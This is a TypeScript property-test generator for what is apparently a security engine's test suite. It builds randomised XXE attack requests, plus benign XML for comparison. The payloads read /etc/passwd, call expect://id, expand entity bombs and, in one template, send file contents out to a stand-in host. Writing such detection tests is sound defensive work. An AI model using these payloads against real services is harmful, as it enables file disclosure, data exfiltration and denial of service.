// XXE as scanners send it: DTDs with random entity and root names, built from the parts tools combine
// (external general entities, parameter entities that load a remote DTD, out-of-band exfiltration that
// nests an entity declaration in a parameter entity's value, a local system DTD repurposed, entity
// expansion bombs, XInclude, external DOCTYPEs), with random whitespace and quoting, in XML, SOAP and
// SVG bodies, multipart uploads, a form field and a JSON string. xxe.ts has fixed documents.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

const name = (r: R) => ["xxe", "foo", "a", "data", "ent", "x" + r(999), "test", "file"][r(8)];
const ws = (r: R) => [" ", "  ", "\n", "\t", " \n "][r(5)];
const q = (r: R) => (r(2) ? "\"" : "'");
const url = (r: R) => [
  "file:///etc/passwd", "file:///c:/windows/win.ini", "http://198.51.100.7/x.dtd", "https://oast.example/" + r(9999), "php://filter/convert.base64-encode/resource=/etc/hostname",
  "expect://id", "jar:http://198.51.100.7/a.jar!/b", "ftp://198.51.100.7/x", "/etc/passwd", "netdoc:/etc/passwd", "gopher://127.0.0.1:25/x",
][r(11)];

const DOCS: ((r: R) => string)[] = [
  (r) => { const e = name(r), root = name(r), k = q(r); return `<?xml version="1.0"?><!DOCTYPE${ws(r)}${root}${ws(r)}[<!ENTITY${ws(r)}${e}${ws(r)}SYSTEM${ws(r)}${k}${url(r)}${k}>]><${root}>&${e};</${root}>`; },
  (r) => { const p = name(r), k = q(r); return `<!DOCTYPE r [<!ENTITY${ws(r)}%${ws(r)}${p}${ws(r)}SYSTEM ${k}${url(r)}${k}>${ws(r)}%${p};]><r/>`; },
  (r) => { const f = name(r), k = q(r); return `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % ${f} SYSTEM ${k}file:///etc/hostname${k}><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://198.51.100.7/?x=%${f};'>">%eval;%exfil;]><d/>`; },
  (r) => `<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso '<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;'>%local_dtd;]><message>${r(99)}</message>`,
  (r) => { const k = q(r); return `<?xml version="1.0"?><!DOCTYPE ${name(r)} PUBLIC ${k}-//X//Y${r(99)}//EN${k} ${k}${url(r)}${k}><a/>`; },
  (r) => { const k = q(r); return `<!DOCTYPE ${name(r)} SYSTEM ${k}${url(r)}${k}><x>${r(99)}</x>`; },
  (r) => { const l = name(r); const refs = (e: string) => Array.from({ length: 5 + r(6) }, () => `&${e};`).join(""); return `<?xml version="1.0"?><!DOCTYPE b [<!ENTITY ${l}0 "${"lol".repeat(1 + r(3))}"><!ENTITY ${l}1 "${refs(l + "0")}"><!ENTITY ${l}2 "${refs(l + "1")}"><!ENTITY ${l}3 "${refs(l + "2")}">]><b>&${l}3;</b>`; },
  (r) => `<${name(r)} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${url(r)}"/></${name(r)}>`,
  (r) => `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY ${name(r)} SYSTEM "${url(r)}">]><svg xmlns="http://www.w3.org/2000/svg" width="${r(500)}"><text>&${name(r)};</text></svg>`,
  (r) => `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><![CDATA[<!DOCTYPE d [<!ENTITY % x SYSTEM "${url(r)}"> %x;]>]]></soap:Body></soap:Envelope>`,
];

const host: [string, string] = ["host", "svc.local"];
export const xxeDocRequest: fc.Arbitrary<Req> = fc.tuple(fc.nat(), fc.nat(DOCS.length - 1), fc.nat(6)).map(([seed, d, where]): Req => {
  const r = rng(seed);
  const doc = DOCS[d](r);
  switch (where) {
    case 0: return { method: "POST", path: "/import", headers: [host, ["content-type", ["application/xml", "text/xml", "application/soap+xml", "application/xhtml+xml"][r(4)]]], body: doc };
    case 1: return { method: "POST", path: "/import", headers: [host, ["content-type", "text/plain"]], body: doc };
    case 2: return { method: "POST", path: "/upload", headers: [host, ["content-type", "multipart/form-data; boundary=b0"]], body: `--b0\r\nContent-Disposition: form-data; name="f"; filename="a.${["svg", "xml", "docx", "xlf"][r(4)]}"\r\nContent-Type: image/svg+xml\r\n\r\n${doc}\r\n--b0--\r\n` };
    case 3: return { method: "POST", path: "/import", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `xml=${encodeURIComponent(doc)}&x=1` };
    case 4: return { method: "POST", path: "/api/import", headers: [host, ["content-type", "application/json"]], body: JSON.stringify({ document: doc }) };
    case 5: return { method: "GET", path: `/render?xml=${encodeURIComponent(doc)}`, headers: [host] };
    default: return { method: "POST", path: "/import", headers: [host, ["content-type", "application/xml"]], body: doc.replace(/></g, ">\n<") };
  }
});

/** Documents with DOCTYPEs and entities that load nothing and expand little, posted or uploaded as files. */
export const xxeDocBenign: fc.Arbitrary<Req> = fc.tuple(fc.constantFrom(
  `<?xml version="1.0"?><!DOCTYPE html><html><body>&amp; &lt;b&gt;</body></html>`,
  `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>`,
  `<?xml version="1.0" encoding="UTF-8"?><order><item qty="2">Tom &amp; Jerry DVD</item></order>`,
  `<note>Use &lt;!ENTITY&gt; declarations with care</note>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z"/><text x="1">R&amp;D</text></svg>`,
  `<?xml version="1.0"?><!DOCTYPE note [<!ENTITY brand "Acme">]><note>&brand; ships today</note>`,
), fc.boolean()).map(([b, upload]): Req => upload
  ? { method: "POST", path: "/upload", headers: [host, ["content-type", "multipart/form-data; boundary=b0"]], body: `--b0\r\nContent-Disposition: form-data; name="f"; filename="logo.svg"\r\nContent-Type: image/svg+xml\r\n\r\n${b}\r\n--b0--\r\n` }
  : { method: "POST", path: "/import", headers: [host, ["content-type", "application/xml"]], body: b });
